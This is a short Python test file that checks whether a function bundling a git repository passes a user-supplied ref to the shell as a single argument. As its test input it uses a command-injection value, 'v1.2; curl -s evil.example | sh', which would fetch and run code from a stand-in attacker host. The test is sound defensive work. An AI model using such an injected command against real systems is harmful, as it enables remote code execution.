import shlex
import subprocess
from pathlib import Path

OPERATORS = {";", "|", "||", "&", "&&", ">", ">>", "<", "$(", "`"}


def _shell_words(command: str) -> list[str]:
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def test_ref_reaches_git_as_one_argument(impl) -> None:
    calls = []

    def recorder(command, **kwargs):
        calls.append((command, kwargs))
        return subprocess.CompletedProcess(command, 0)

    impl.run = recorder
    ref = "v1.2; curl -s evil.example | sh"
    impl.bundle(Path("/srv/src/shop"), ref, Path("/srv/bundles"))
    command, kwargs = calls[0]
    words = _shell_words(command) if kwargs.get("shell") else list(command)
    operators = [w for w in words if w in OPERATORS]
    assert operators == ["|", ">"], (
        f"a ref named {ref!r} gives the shell this line:\n  {command}\n"
        f"which it splits at {operators}: curl runs as a command of its own"
    )
    assert ref in words, f"the ref did not reach git as one argument: {words}"
